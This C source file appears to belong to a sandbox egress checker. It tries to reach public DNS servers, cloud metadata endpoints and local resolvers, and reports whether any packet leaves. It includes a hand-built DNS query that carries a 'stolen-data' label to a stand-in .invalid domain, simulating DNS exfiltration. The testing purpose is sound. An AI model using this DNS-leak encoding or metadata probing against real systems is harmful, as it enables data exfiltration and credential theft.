#include "network-linux.h"

#include <arpa/inet.h>
#include <errno.h>
#include <net/if.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdio.h>
#include <sys/socket.h>
#include <unistd.h>

#include "alloc.h"
#include "fd.h"
#include "file.h"
#include "loop.h"

#define DIALS_MAX 128          /* attempts under way at once; a probe that lists more is refused */
#define RESOLV_MAX (64u << 10) /* bytes of /etc/resolv.conf */

/* One attempt to reach an address. */
struct dial {
	enum check check;
	int type; /* SOCK_STREAM or SOCK_DGRAM */
	int port;
	char address[INET6_ADDRSTRLEN];
	bool local; /* loopback: a refusal says that nobody listens, not that somebody was reached */
	int fd;
};

struct dialer {
	struct dial list[DIALS_MAX];
	size_t count;
	struct verdict *verdict;
};

/*
 * A query for the address of a name that carries data: what a leak looks like.
 * Source: RFC 1035 §4.1; one question, recursion desired, type A, class IN.
 */
static const char leak_query[] = "\x62\x62\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
				 "\x18stolen-data-stolen-data-"
				 "\x0a"
				 "bot-bottle\x07invalid\x00\x00\x01\x00\x01";

/* The interface over which a link-local address is tried: the last one, which is not loopback if another is there. */
static unsigned link_interface(void)
{
	struct if_nameindex *all = if_nameindex();
	unsigned last = 0;

	for (size_t i = 0; all && all[i].if_index; i++)
		last = all[i].if_index;
	if (all)
		if_freenameindex(all);
	return last;
}

/* The socket address of a literal; 0 when it is none. */
static socklen_t make_address(const struct dial *d, struct sockaddr_storage *out)
{
	struct sockaddr_in *v4 = (struct sockaddr_in *)out;
	struct sockaddr_in6 *v6 = (struct sockaddr_in6 *)out;

	memset(out, 0, sizeof(*out));
	if (inet_pton(AF_INET, d->address, &v4->sin_addr) == 1) {
		v4->sin_family = AF_INET;
		v4->sin_port = htons((uint16_t)d->port);
		return sizeof(*v4);
	}
	if (inet_pton(AF_INET6, d->address, &v6->sin6_addr) == 1) {
		v6->sin6_family = AF_INET6;
		v6->sin6_port = htons((uint16_t)d->port);
		if (IN6_IS_ADDR_LINKLOCAL(&v6->sin6_addr))
			v6->sin6_scope_id = link_interface();
		return sizeof(*v6);
	}
	return 0;
}

/* "TCP 192.0.2.1 port 80" for the detail. */
static char *name_of(const struct dial *d)
{
	return alloc_format("%s %s port %d", d->type == SOCK_STREAM ? "TCP" : "UDP", d->address, d->port);
}

/* Does this errno of connect(2) or send(2) itself mean that the packet went nowhere? */
static bool went_nowhere(int error)
{
	return error == ENETUNREACH || error == EHOSTUNREACH || error == EACCES || error == EPERM ||
	       error == EADDRNOTAVAIL || error == EAFNOSUPPORT || error == ENOSYS;
}

/* Report that an attempt was refused. */
static void report_held(struct dialer *all, struct dial *d, int error)
{
	AUTO_FREE char *name = name_of(d);

	fd_close(&d->fd);
	verdict_set(all->verdict, d->check, RESULT_HELD, "%s: %s", name, strerror(error));
}

/* Report that a packet left, and what came back. */
static void report_open(struct dialer *all, struct dial *d, const char *answer)
{
	AUTO_FREE char *name = name_of(d);

	fd_close(&d->fd);
	verdict_set(all->verdict, d->check, RESULT_OPEN, "%s: a packet left: %s", name, answer);
}

/* Report what the kernel said at once; 0 is success. */
static void report_call(struct dialer *all, struct dial *d, int error)
{
	if (error && (went_nowhere(error) || (d->local && error == ECONNREFUSED)))
		report_held(all, d, error);
	else
		report_open(all, d, error ? strerror(error) : "connected");
}

/* Report what came from elsewhere. Only on loopback does an answer come from ourselves. */
static void report_answer(struct dialer *all, struct dial *d)
{
	int error = 0;
	socklen_t len = sizeof(error);

	if (getsockopt(d->fd, SOL_SOCKET, SO_ERROR, &error, &len) != 0)
		error = errno;
	if (d->local && error == ECONNREFUSED)
		report_held(all, d, error);
	else
		report_open(all, d, error ? strerror(error) : "answered");
}

/* Start one attempt; what can be judged at once is reported at once. */
static void dial(struct dialer *all, enum check check, int type, const char *address, int port)
{
	struct sockaddr_storage to;
	struct dial *d;
	socklen_t len;

	if (all->count == DIALS_MAX) {
		verdict_set(all->verdict, check, RESULT_UNKNOWN, "more than %d addresses to try", DIALS_MAX);
		return;
	}
	d = &all->list[all->count];
	*d = (struct dial){ .check = check, .type = type, .port = port, .fd = -1 };
	snprintf(d->address, sizeof(d->address), "%s", address);
	d->local = strncmp(address, "127.", 4) == 0 || strcmp(address, "::1") == 0;
	len = make_address(d, &to);
	if (!len)
		return;
	d->fd = socket(to.ss_family, type | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
	if (d->fd < 0 || connect(d->fd, (const struct sockaddr *)&to, len) != 0) {
		if (errno != EINPROGRESS) {
			report_call(all, d, errno);
			return;
		}
	} else if (type == SOCK_STREAM) {
		report_call(all, d, 0);
		return;
	}
	if (type == SOCK_DGRAM && send(d->fd, leak_query, sizeof(leak_query) - 1, MSG_NOSIGNAL) < 0) {
		report_call(all, d, errno);
		return;
	}
	all->count++;
}

/* Wait for those under way until the deadline, then report the rest. */
static void await(struct dialer *all, int64_t deadline)
{
	for (;;) {
		struct pollfd fds[DIALS_MAX];
		int64_t left = deadline - loop_clock();
		size_t waiting = 0;

		for (size_t i = 0; i < all->count; i++) {
			const struct dial *d = &all->list[i];

			fds[i] = (struct pollfd){ d->fd, d->type == SOCK_STREAM ? POLLOUT : POLLIN, 0 };
			waiting += d->fd >= 0;
		}
		if (!waiting || left <= 0 || poll(fds, all->count, (int)left) <= 0)
			break;
		for (size_t i = 0; i < all->count; i++)
			if (all->list[i].fd >= 0 && fds[i].revents)
				report_answer(all, &all->list[i]);
	}
	for (size_t i = 0; i < all->count; i++)
		if (all->list[i].fd >= 0)
			report_open(all, &all->list[i], "no answer in time");
}

/* Public addresses, the cloud's metadata, and whatever the probe adds. */
static void dial_addresses(struct dialer *all, const struct probe *p)
{
	const struct doc *hosts = doc_get(p->document, "host_addresses");
	const struct doc *others = doc_get(p->document, "addresses");

	dial(all, CHECK_TCP, SOCK_STREAM, "1.1.1.1", 443);
	dial(all, CHECK_TCP, SOCK_STREAM, "8.8.8.8", 53);
	dial(all, CHECK_UDP, SOCK_DGRAM, "8.8.8.8", 53);
	dial(all, CHECK_IPV6, SOCK_STREAM, "2606:4700:4700::1111", 443);
	dial(all, CHECK_IPV6, SOCK_DGRAM, "2001:4860:4860::8888", 53);
	dial(all, CHECK_METADATA, SOCK_STREAM, "169.254.169.254", 80);
	dial(all, CHECK_METADATA, SOCK_STREAM, "fd00:ec2::254", 80);
	verdict_set(all->verdict, CHECK_HOST, RESULT_HELD, "no address answered");
	for (size_t i = 0; i < doc_count(hosts); i++) {
		dial(all, CHECK_HOST, SOCK_STREAM, doc_cstr(doc_at(hosts, i)), 22);
		dial(all, CHECK_HOST, SOCK_DGRAM, doc_cstr(doc_at(hosts, i)), 53);
	}
	for (size_t i = 0; i < doc_count(others); i++)
		dial(all, CHECK_TCP, SOCK_STREAM, doc_get_cstr(doc_at(others, i), "address"),
		     (int)doc_get_int(doc_at(others, i), "port"));
}

/*
 * The servers that a resolver library would ask: those of /etc/resolv.conf, and
 * this machine's where there are none. Source: resolv.conf(5).
 */
static void dial_resolvers(struct dialer *all)
{
	AUTO_BUF text = BUF_INIT;
	struct error ignored = ERROR_INIT; /* no file: the defaults below are what is asked */
	struct slice rest;

	file_read("/etc/resolv.conf", RESOLV_MAX, &text, &ignored);
	rest = buf_slice(&text);
	while (rest.len) {
		struct slice line = slice_trim(slice_cut(&rest, '\n'), " \t\r");
		AUTO_FREE char *address = NULL;

		if (!slice_eq(slice_cut(&line, ' '), SLICE("nameserver")))
			continue;
		line = slice_trim(line, " \t");
		address = alloc_copy(line.len ? line.ptr : "", line.len);
		dial(all, CHECK_RESOLVER, SOCK_DGRAM, address, 53);
		dial(all, CHECK_RESOLVER, SOCK_STREAM, address, 53);
	}
	dial(all, CHECK_RESOLVER, SOCK_DGRAM, "127.0.0.1", 53);
	dial(all, CHECK_RESOLVER, SOCK_STREAM, "127.0.0.1", 53);
	dial(all, CHECK_RESOLVER, SOCK_DGRAM, "127.0.0.53", 53);
	dial(all, CHECK_RESOLVER, SOCK_DGRAM, "127.0.0.11", 53);
	dial(all, CHECK_RESOLVER, SOCK_DGRAM, "::1", 53);
}

/* Sockets of resolver services that need no packet. */
static void try_resolver_sockets(struct verdict *v)
{
	static const char *const paths[] = {
		"/run/systemd/resolve/io.systemd.Resolve",
		"/run/nscd/socket",
		"/var/run/nscd/socket",
		"/run/avahi-daemon/socket",
		"/var/run/avahi-daemon/socket",
		"/run/mDNSResponder",
		"/var/run/mDNSResponder",
	};

	for (size_t i = 0; i < COUNT_OF(paths); i++)
		verdict_judge(v, CHECK_RESOLVER, access(paths[i], F_OK) == 0, "%s is here", paths[i]);
}

void network_prove(const struct probe *p, struct verdict *v)
{
	AUTO_FREE struct dialer *all = alloc_zero(1, sizeof(*all));

	all->verdict = v;
	dial_addresses(all, p);
	dial_resolvers(all);
	try_resolver_sockets(v);
	await(all, loop_clock() + NETWORK_MS);
}
